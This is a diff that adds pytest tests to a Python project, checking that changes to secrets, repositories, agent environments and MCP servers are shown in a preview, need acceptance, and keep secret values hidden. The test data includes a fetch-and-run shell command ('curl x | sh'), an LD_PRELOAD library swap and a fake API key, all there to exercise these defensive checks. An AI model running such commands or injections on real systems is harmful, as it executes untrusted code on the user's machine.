@@ -10,6 +10,7 @@ import pytest
 
 from remit.clock import DAY, to_iso
 from remit.errors import BadInput, Conflict, RemitError
+from remit.services.acceptance import reach
 from remit.services.connections import bindings, folders, mcp_servers, repos, secrets
 from remit.services.declared import declared_company
 from remit.services.execution import runs
@@ -19,7 +20,7 @@ from remit.services.messaging import schedules
 from remit.services.organisation import agents, permissions
 from remit.services.people import companies
 from remit.services.record import events
-from remit.services.redaction import REMOVED
+from remit.services.redaction import REMOVED, without_secrets
 from remit.services.rights import grants
 from remit.services.screens import overview
 from tests.channel_stage import arrive
@@ -625,6 +626,162 @@ def test_a_file_that_reaches_further_is_accepted_as_it_was_shown(company: Compan
     title = {"agents": [{"name": "writer", "title": "Writes"}]}
     here: Any = {"company": company.id, "document": title}
     assert company.call(company.board, declared_company.apply, **here)["changed"] == 1
+
+
+SITE = {"name": "site", "url": "https://example.invalid/acme/site.git"}
+WORKER = {"name": "worker", "reportsTo": "ceo", "adapterType": "process"}
+CHANGED = "(changed; the value is not shown)"
+FORGE = {**SITE, "forge": "github", "api_secret": "api"}
+
+
+def with_hidden(**changed: Any) -> dict[str, Any]:
+    """A document with values that no preview shows."""
+    value = {"library": "/a.so", "place": "A", "password": SECRET, "header": "s3cr3t-one"} | changed
+    env = {"LD_PRELOAD": value["library"], "LANG": "C"}
+    config = {"command": "/bin/true", "env": env}
+    return {
+        "agents": [{"name": "tool", "adapterType": "process", "adapterConfig": config}],
+        "secrets": [{"name": "key", "source": "env", "place": value["place"]}],
+        "mcp_servers": [
+            {
+                "name": "forge",
+                "command": ["forge-mcp"],
+                "env": {"FORGE_PASSWORD": value["password"]},
+            },
+            {
+                "name": "far",
+                "url": "https://mcp.example.com/mcp",
+                "headers": {"X-Api-Key": value["header"]},
+            },
+        ],
+    }
+
+
+@pytest.mark.requirement("FX-81")
+@pytest.mark.parametrize(
+    ("section", "before", "after", "shown"),
+    [
+        (
+            "secrets",
+            {"name": "key", "source": "command", "place": ["pass", "key"]},
+            {"name": "key", "source": "command", "place": ["sh", "-c", "curl x | sh"]},
+            [("program", "the company", "key from command: sh -c 'curl x | sh'")],
+        ),
+        (
+            "secrets",
+            {"name": "key", "source": "env", "place": "MODEL_KEY"},
+            {"name": "key", "source": "env", "place": "ROOT_PASSWORD"},
+            [("secret", "the company", "key from env: ROOT_PASSWORD")],
+        ),
+        (
+            "repos",
+            SITE,
+            {**SITE, "push": "fork", "fork": "https://elsewhere.invalid/x/site.git"},
+            [
+                (
+                    "address",
+                    "repository site",
+                    "proposals are pushed to the fork https://elsewhere.invalid/x/site.git",
+                )
+            ],
+        ),
+        (
+            "repos",
+            {**SITE, "push": "after_look"},
+            {**SITE, "push": "at_once"},
+            [("right", "repository site", "proposals are pushed before anybody has looked")],
+        ),
+        (
+            "repos",
+            FORGE,
+            {**FORGE, "api_secret": "other", "hook": "hook"},
+            [
+                ("secret", "repository site", "other opens the API of the forge"),
+                ("secret", "repository site", "hook signs webhooks"),
+            ],
+        ),
+        (
+            "repos",
+            {**FORGE, "people": "ann"},
+            {**FORGE, "people": "ann, mallory", "label": "work"},
+            [
+                ("right", "repository site", "people who are heard at the forge: ann, mallory"),
+                ("right", "repository site", "their label work makes an issue an outcome"),
+            ],
+        ),
+        (
+            "agents",
+            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://a"}}},
+            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://b"}}},
+            [("environment", "worker", f"WHERE={REMOVED} {CHANGED}")],
+        ),
+        (
+            "mcp_servers",
+            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--one"}},
+            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--two"}},
+            [("setting", "MCP server files", f'env: {{"NODE_OPTIONS": "{REMOVED}"}} {CHANGED}')],
+        ),
+    ],
+)
+def test_a_connection_that_a_file_changes_is_accepted_as_it_was_shown(
+    small: Company, section: str, before: Any, after: Any, shown: list[tuple[str, str, str]]
+) -> None:
+    """Also where it was there before by the same name, and only a part of it is another; that part
+    may be hidden, because it may be a secret."""
+    for name in ("api", "other", "hook"):
+        known: Any = {"source": "env", "place": name.upper()}
+        small.call(small.board, secrets.put, company=small.id, name=name, **known)
+    apply(small, {section: [before]})
+    document = {section: [after]}
+    about: Any = {"company": small.id, "document": document}
+    refused = refusal(small, small.board, declared_company.apply, **about)
+    assert refused == "not_accepted"
+    plan = preview(small, document)
+    assert [(one["kind"], one["of"], one["text"]) for one in plan["entries"]] == shown
+    assert apply(small, document)["changed"] == 1
+
+
+@pytest.mark.requirement("FX-81")
+@pytest.mark.parametrize(
+    ("changed", "of", "named"),
+    [
+        ({"library": "/b.so"}, "tool", "LD_PRELOAD="),
+        ({"password": "hidden-anew-1234"}, "MCP server forge", "env: "),
+        ({"header": "s3cr3t-two"}, "MCP server far", "headers: "),
+    ],
+)
+def test_a_changed_value_that_is_not_shown_is_accepted_as_well(
+    small: Company, changed: dict[str, str], of: str, named: str
+) -> None:
+    """Where the texts were compared, another LD_PRELOAD took effect with nothing to accept."""
+    apply(small, with_hidden())
+    assert preview(small, with_hidden())["entries"] == []
+    document = with_hidden(**changed)
+    plan = preview(small, document)
+    (entry,) = plan["entries"]
+    assert entry["of"] == of
+    assert entry["text"].startswith(named)
+    assert entry["text"].endswith("(changed; the value is not shown)")
+    (value,) = changed.values()
+    assert f'"{value}"' not in json.dumps(plan["entries"])
+    about: Any = {"company": small.id, "document": document}
+    assert refusal(small, small.board, declared_company.apply, **about) == "not_accepted"
+    # The digest is that of the value, too.
+    third = {**about, "document": with_hidden(**dict.fromkeys(changed, "THIRD"))}
+    third["accepted"] = plan["digest"]
+    assert refusal(small, small.board, declared_company.apply, **third) == "not_accepted"
+    apply(small, document)
+    assert preview(small, document)["entries"] == []
+
+
+def test_a_name_that_is_a_secret_is_not_shown_beside_its_value() -> None:
+    """Nor do names that are the same without it confuse the comparison."""
+    key = f"sk-ant-api03-{'Qw3rTy7uIoP9aSdF' * 3}"
+    settings = {key: 1, f"{key}x": 2, REMOVED: 3, f"{REMOVED} 2": {key: 4}}
+    shown = list(reach._leaves(settings, without_secrets(settings)[0]))
+    assert key not in str([(path, value) for path, value, _ in shown])
+    changed = {**settings, f"{REMOVED} 2": {key: 5}}
+    assert list(reach._leaves(changed, without_secrets(changed)[0])) != shown
 
 
 @pytest.mark.requirement("FX-81")
